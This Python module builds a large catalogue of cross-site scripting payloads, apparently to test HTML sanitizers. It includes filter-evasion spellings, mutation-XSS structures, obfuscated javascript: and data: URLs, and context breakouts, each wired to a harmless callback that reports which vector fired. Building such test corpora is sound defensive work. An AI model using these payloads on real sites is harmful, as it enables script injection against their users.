"""Ways to make a page run a script, by class. Each is markup with JS where the script stands; VECTORS has them all."""

import base64
from html import escape

JS = "JS"  # replaced by a call that tells which vector it was

HANDLERS = """onload onerror onclick ondblclick onmousedown onmouseup onmouseover onmouseout onmousemove onmouseenter onmouseleave onwheel onkeydown onkeypress onkeyup onfocus onfocusin
onfocusout onblur oninput onchange onbeforeinput onsubmit onreset oninvalid onselect onselectstart oncopy oncut onpaste onbeforecopy ondrag ondragstart ondragend ondragenter ondragover
ondrop onscroll onscrollend onresize onanimationstart onanimationend onanimationiteration ontransitionstart ontransitionend ontransitionrun ontoggle onbeforetoggle onpointerdown onpointerup
onpointerover onpointerenter onpointermove onpointerrawupdate ontouchstart ontouchend onplay onplaying onpause oncanplay oncanplaythrough ondurationchange onended onloadstart onloadeddata
onloadedmetadata onprogress onratechange onseeked onstalled onsuspend ontimeupdate onvolumechange onwaiting oncuechange oncontextmenu onauxclick onsearch onsecuritypolicyviolation
onslotchange onfullscreenchange oncontentvisibilityautostatechange onbeforexrselect onbegin onend onrepeat onfinish onstart onbounce onhashchange onmessage onpageshow onpopstate
onunhandledrejection onbeforeunload onunload onafterprint onstorage""".split()

HANDLER_HOSTS = ["<p {h}=JS>x</p>", "<img src=x {h}=JS>", "<svg {h}=JS>", "<body {h}=JS>"]

# How an attribute may be written so that a filter does not see it as a browser does.
ATTRIBUTE_FORMS = ["<img src=x onerror=JS>", "<img src=x onerror='JS'>", '<img src=x onerror="JS">', "<img/src=x/onerror=JS>", "<img src=x\nonerror\n=\nJS>", "<img\tsrc=x\tonerror=JS>",
                   "<img\x0csrc=x\x0conerror=JS>", "<IMG SRC=x ONERROR=JS>", "<iMg sRc=x oNeRrOr=JS>", "<img src=x onerror=JS//", "<img src=x onerror=JS", "<img src='x'onerror=JS>",
                   '<img src="x"onerror=JS>', "<img src=x onerror=&#74;S>", "<img src=x alt='>' onerror=JS>", "<img src=x alt=\"<\" onerror=JS>", "<img =x src=x onerror=JS>",
                   "<img \"\"\" src=x onerror=JS>", "<img src=x src=y onerror=JS onerror=1>", "<img src=x onerror\0=JS>", "<img src=x \0onerror=JS>", "<i\0mg src=x onerror=JS>", "<\0img src=x onerror=JS>",
                   "<<img src=x onerror=JS>", "< img src=x onerror=JS>", "<img src=x onerror=JS <", "<image src=x onerror=JS>", "<img src=x:x onerror=JS>", "<img src onerror=JS>",
                   "<img srcset=x onerror=JS>", "<img srcset='x 1x, y 2x' onerror=JS>", "<picture><source srcset=x><img onerror=JS src=x></picture>", "<input type=image src=x onerror=JS>",
                   "<img src=`x` onerror=JS>", "<img src=x onerror=`${JS}`>", "<img lowsrc=x onerror=JS src=y>", "<img src=x xml:onerror=JS onerror=JS>", "<a b='<img src=x onerror=JS>'>x",
                   "<img title='\"><img src=x onerror=JS>'>", "<img alt=\"`<img src=x onerror=JS>`\">", "\"><img src=x onerror=JS>", "'><img src=x onerror=JS>", "--><img src=x onerror=JS>", "]]><img src=x onerror=JS>"]

SCRIPTS = ["<script>JS</script>", "<SCRIPT>JS</SCRIPT>", "<script\n>JS</script\n>", "<script/x>JS</script>", "<script>JS</script x>", "<script>JS", "<script>JS//", "<scr<script>ipt>JS</scr</script>ipt>",
           "<script src=data:text/javascript,JS></script>", "<script src='data:,JS'></script>", "<script type=module>JS</script>", "<script type=''>JS</script>", "<script language=javascript>JS</script>",
           "<script><!--\nJS\n//--></script>", "<script>//<![CDATA[\nJS\n//]]></script>", "<script\0>JS</script>", "<\0script>JS</script>", "<s\0cript>JS</script>", "<svg><script>JS</script></svg>",
           "<svg><script>&#74;S</script></svg>", "<svg><script><![CDATA[JS]]></script></svg>", "<svg><script href=data:,JS></script>", "<svg><script xlink:href='data:,JS'></script>",
           "<math><script>JS</script></math>", "<script>var a='</script><script>JS</script>'", "<xml><script>JS</script></xml>", "<script defer>JS</script>", "<script for=window event=onload>JS</script>",
           "<script nomodule>JS</script>", "<template><script>JS</script></template><script>JS</script>", "<noscript><script>JS</script></noscript>"]

# Structures that parse one way when cleaned and another when shown (mutation), and elements whose content is no markup.
MUTATIONS = ["<noscript><p title='</noscript><img src=x onerror=JS>'>", "<textarea><p title='</textarea><img src=x onerror=JS>'>", "<title><p title='</title><img src=x onerror=JS>'>",
             "<style><p title='</style><img src=x onerror=JS>'>", "<xmp><p title='</xmp><img src=x onerror=JS>'>", "<noembed><p title='</noembed><img src=x onerror=JS>'>",
             "<noframes><p title='</noframes><img src=x onerror=JS>'>", "<iframe><p title='</iframe><img src=x onerror=JS>'>", "<plaintext><img src=x onerror=JS>", "<listing>&lt;img src=x onerror=JS&gt;</listing>",
             "<pre>&lt;img src=x onerror=JS&gt;</pre>", "<xmp>&lt;img src=x onerror=JS&gt;</xmp><xmp><img src=x onerror=JS></xmp>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=JS&gt;'>",
             "<math><mtext><table><mglyph><style><img src=x onerror=JS>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>", "<svg></p><style><a id='</style><img src=x onerror=JS>'>",
             "<svg><style><img src=x onerror=JS></style></svg>", "<svg><p><style><!--</style><img src=x onerror=JS>--></style>", "<math><annotation-xml encoding=text/html><style><img src=x onerror=JS></style></annotation-xml></math>",
             "<math><annotation-xml><style><img src=x onerror=JS></style></annotation-xml></math>", "<svg><foreignObject><style><!--</style><img src=x onerror=JS>--></style></foreignObject>",
             "<svg><desc><style><img src=x onerror=JS></style></desc></svg>", "<svg><title><style><img src=x onerror=JS></style></title></svg>", "<select><style><img src=x onerror=JS></style></select>",
             "<select><template><img src=x onerror=JS></template></select>", "<select><option><img src=x onerror=JS></select>", "<table><img src=x onerror=JS></table>", "<table><td><a href=javascript:JS>x</table>",
             "<table background='javascript:JS'>", "<math><mi//xlink:href='data:x,<script>JS</script>'>", "<math href='javascript:JS'>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:JS>x</maction></math>",
             "<template><img src=x onerror=JS></template>", "<template shadowrootmode=open><img src=x onerror=JS></template>", "<div><template shadowrootmode=open><slot onslotchange=JS></slot><img src=x onerror=JS></template></div>",
             "<!--<img src=x onerror=JS>-->", "<!--><img src=x onerror=JS>-->", "<!---><img src=x onerror=JS>-->", "<!-- --!><img src=x onerror=JS>-->", "<!--[if IE]><img src=x onerror=JS><![endif]-->",
             "<![CDATA[<img src=x onerror=JS>]]>", "<svg><![CDATA[<img src=x onerror=JS>]]></svg>", "<svg><![CDATA[</svg><img src=x onerror=JS>]]>", "<!DOCTYPE x[<!ENTITY a '<img src=x onerror=JS>'>]>&a;",
             "<?xml version='1.0'?><img src=x onerror=JS>", "<?php echo '><img src=x onerror=JS>' ?>", "<%<img src=x onerror=JS>%>", "</p><img src=x onerror=JS>", "</<img src=x onerror=JS>", "<//><img src=x onerror=JS>",
             "<!<img src=x onerror=JS>", "<b <script>JS</script>>x</b>", "<a href='x'<img src=x onerror=JS>>y</a>", "<p>" * 300 + "<img src=x onerror=JS>", "<div>" * 600 + "<svg onload=JS>", "<b><i><u>" * 100 + "<img src=x onerror=JS>",
             "<font><p>" * 40 + "</font><img src=x onerror=JS>", "<a><svg><a><img src=x onerror=JS>", "<form><form><input formaction=javascript:JS type=submit></form></form>", "<frameset onload=JS><frame src=javascript:JS></frameset>",
             "<isindex type=image src=x onerror=JS>", "<keygen autofocus onfocus=JS>", "<marquee onstart=JS>x</marquee>", "<bgsound src=javascript:JS>", "<layer src=javascript:JS>", "<x onclick=JS>x</x>", "<x-y onanimationstart=JS style='animation:a 1s'>x</x-y>",
             "<custom contenteditable autofocus onfocus=JS>x</custom>", "<details open ontoggle=JS>x</details>", "<video><source onerror=JS></video>", "<audio src=x onerror=JS>", "<video poster=x onloadstart=JS src=x>", "<object data=x onerror=JS>",
             "<embed src=x onerror=JS>", "<track onerror=JS>", "<dialog open onclose=JS>x</dialog>", "<button popovertarget=a>x</button><div popover id=a onbeforetoggle=JS>y</div>", "<input autofocus onfocus=JS>", "<select autofocus onfocus=JS>", "<textarea autofocus onfocus=JS>",
             "<style>@keyframes a{}</style><b style='animation-name:a' onanimationstart=JS>x</b>", "<p id=a tabindex=1 onfocus=JS>x</p>", "<body background=javascript:JS>", "<link rel=stylesheet href=data:text/css,x onload=JS>",
             "<link rel=import href='data:text/html,<script>JS</script>'>", "<link rel=preload as=script href=data:,JS onload=JS>", "<style onload=JS></style>", "<style>@import 'data:text/css,x'</style>", "<xss style='behavior:url(#default#time2)' onbegin=JS>"]

FRAMES = ["<iframe src=javascript:JS></iframe>", "<iframe srcdoc='<script>JS</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=JS&gt;'></iframe>", "<iframe src='data:text/html,<script>JS</script>'></iframe>",
          "<iframe onload=JS></iframe>", "<iframe src=\"javascript:'<script>JS</script>'\"></iframe>", "<object data=javascript:JS></object>", "<object data='data:text/html,<script>JS</script>'></object>",
          "<embed src=javascript:JS>", "<embed src='data:text/html;base64,{b64}'>", "<object type=text/html data='data:text/html;base64,{b64}'></object>", "<applet code=javascript:JS></applet>", "<portal src=javascript:JS>",
          "<fencedframe src=javascript:JS>", "<object><param name=src value=javascript:JS></object>", "<frameset><frame src=javascript:JS></frameset>"]

SVGS = ["<svg onload=JS>", "<svg/onload=JS>", "<svg><g onload=JS></g></svg>", "<svg><a xlink:href=javascript:JS><text y=20>x</text></a></svg>", "<svg><a href=javascript:JS><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><set onbegin=JS attributeName=x>", "<svg><a><animate attributeName=href values=javascript:JS /><text y=20>x</text></a></svg>",
        "<svg><a><set attributeName=href to=javascript:JS /><text y=20>x</text></a></svg>", "<svg><a><animate attributeName=xlink:href from=javascript:JS to=x /><text>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='JS' /></svg>#x\">",
        "<svg><use xlink:href='data:image/svg+xml;base64,{svg64}#x'></use></svg>", "<svg><image href=x onerror=JS></svg>", "<svg><image xlink:href='javascript:JS'></svg>", "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>JS</script>'></iframe></foreignObject></svg>", "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>JS</handler></svg>", "<svg><title onload=JS>x</title></svg>",
        "<svg><discard onbegin=JS>", "<svg><animateMotion onbegin=JS>", "<svg><animateTransform onbegin=JS attributeName=transform>", "<svg><feImage href=javascript:JS>", "<svg><switch><script>JS</script></switch></svg>",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>\">", "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href=javascript:JS><rect width=9 height=9 /></a></svg>"]

META = ["<meta http-equiv=refresh content='0;url=javascript:JS'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>", "<base href='javascript:JS//'><a href='x'>x</a>", "<base href='data:text/html,<script>JS</script>'>",
        "<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-", "<meta http-equiv=Set-Cookie content='a=<script>JS</script>'>", "<link rel=stylesheet href='javascript:JS'>", "<link rel=icon href='javascript:JS'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>JS</script>"]

STYLES = ["<p style='background:url(javascript:JS)'>x", "<p style=\"width:expression(JS)\">x", "<p style='-moz-binding:url(data:text/xml,JS)'>x", "<style>*{background:url(javascript:JS)}</style>", "<style>@import 'javascript:JS';</style>",
          "<p style='behavior:url(x.htc)'>x", "<p style=\"x:\\65xpression(JS)\">x", "<style></style><img src=x onerror=JS>", "<style><!--</style><img src=x onerror=JS>", "<style>a{}</style/><img src=x onerror=JS>", "<p style=\"a:'</p><img src=x onerror=JS>'\">x"]

FORMS = ["<form action=javascript:JS><input type=submit></form>", "<form><button formaction=javascript:JS>x</button></form>", "<form id=f></form><button form=f formaction=javascript:JS>x</button>", "<input type=image formaction=javascript:JS>",
         "<form onsubmit=JS><button>x</button></form>", "<isindex action=javascript:JS type=submit>", "<form action='data:text/html,<script>JS</script>'><button>x</button></form>", "<button onclick=JS>x</button>", "<output oninput=JS>x</output>"]


def javascript_urls():
    plain = "javascript:JS"
    yield from [plain, "JAVASCRIPT:JS", "JaVaScRiPt:JS", " javascript:JS", "\tjavascript:JS", "\n\njavascript:JS", "\x01javascript:JS", "\x1fjavascript:JS", "\x00javascript:JS", "\x0bjavascript:JS",
                "java\tscript:JS", "java\nscript:JS", "java\r\nscript:JS", "java\x0bscript:JS", "java\0script:JS", "javascript\t:JS", "javascript\n:JS", "javascript :JS", "javascript&colon;JS", "javascript&#58;JS", "javascript&#x3a;JS",
                "javascript&#0000058JS", "&#106;avascript:JS", "&#x6A;avascript:JS", "&#x6Aavascript:JS", "java&Tab;script:JS", "java&NewLine;script:JS", "java&#9;script:JS", "java&#x0A;script:JS", "&#1;javascript:JS", "&Tab;javascript:JS",
                "javascript:\u2028JS", "javascript://%0aJS", "javascript://example.org/%0aJS", "javascript:%4aS", "javascript:/*--></title></style>*/JS", "javascript:void(JS)", "javascript:'<script>JS</script>'", "feed:javascript:JS", "view-source:javascript:JS",
                "livescript:JS", "mocha:JS", "vbscript:JS", "ja​vascript:JS", "ｊavascript:JS", "jav‌ascript:JS", "javas\u00adcript:JS", "%6aavascript:JS", "javascript%3aJS", "//javascript:JS", "http:javascript:JS", "?javascript:JS", "javascript.:JS",
                "data:text/html,<script>JS</script>", "data:text/html;base64,{b64}", "DATA:text/html,<script>JS</script>", "data:,<script>JS</script>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>JS</script></svg>",
                "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>JS</script></html>", "data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>JS</script>", "blob:null/JS", "filesystem:http://x/JS", "jar:javascript:JS!/", "about:blank#JS", "intent:#JS"]


URL_PLACES = ['<a href="{u}">x</a>', "<area href='{u}'>", "<img src=\"{u}\">", "<q cite=\"{u}\">x</q>", "<video src=\"{u}\" poster=\"{u}\"></video>", "<a xlink:href=\"{u}\">x</a>", "<a href={u}>x</a>"]

# What breaks out of one syntax into another: for titles, names and tags.
BREAKOUTS = ["</title><script>JS</script>", "</textarea><script>JS</script>", "</script><script>JS</script>", "</style><script>JS</script>", "--><script>JS</script>", "]]><script>JS</script>", "\"><script>JS</script>", "'><script>JS</script>",
             "\" onmouseover=JS x=\"", "' onmouseover=JS x='", "` onmouseover=JS `", "\" autofocus onfocus=JS tabindex=1 x=\"", "${JS}", "{{JS}}", "{{constructor.constructor('JS')()}}", "#{JS}", "<%= JS %>", "<?JS?>", "&lt;script&gt;JS&lt;/script&gt;",
             "&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;", "\\u003cscript\\u003eJS\\u003c/script\\u003e", "%3Cscript%3EJS%3C/script%3E", "+ADw-script+AD4-JS+ADw-/script+AD4-", "\u2028JS\u2029", "[x](javascript:JS)", "![x](javascript:JS)", "<javascript:JS>", "[x]: javascript:JS\n\n[x]",
             "`</code><script>JS</script>`", "```\n</code><script>JS</script>", "    <script>JS</script>", "<script>JS</script>", "\n<script>JS</script>\n", "* <img src=x onerror=JS>", "> <svg onload=JS>", "| <img src=x onerror=JS> |", "***<b onclick=JS>x</b>***"]


def all_vectors():
    for n, handler in enumerate(HANDLERS):
        yield HANDLER_HOSTS[n % len(HANDLER_HOSTS)].replace("{h}", handler)
    for group in (ATTRIBUTE_FORMS, SCRIPTS, MUTATIONS, FRAMES, SVGS, META, STYLES, FORMS, BREAKOUTS):
        yield from group
    for n, url in enumerate(javascript_urls()):
        for place in (URL_PLACES[0], URL_PLACES[1 + n % (len(URL_PLACES) - 1)]):
            yield place.replace("{u}", url.replace('"', "&quot;"))
    for vector in SCRIPTS[:6] + ATTRIBUTE_FORMS[:10] + SVGS[:5]:  # twice escaped: runs where somebody decodes once too often
        yield escape(vector)


def armed(vector, number, call="top.hit"):
    """The vector with its script: it calls top.hit(number)."""
    script = f"{call}({number})"
    packed = base64.b64encode(f"<script>{script}</script>".encode()).decode()
    picture = base64.b64encode(f"<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{script}' /></svg>".encode()).decode()
    return vector.replace("{b64}", packed).replace("{svg64}", picture).replace("&#74;S", f"&#{ord(script[0])};{script[1:]}").replace("%4aS", "%74" + script[1:]).replace("JS", script)


VECTORS = list(all_vectors())
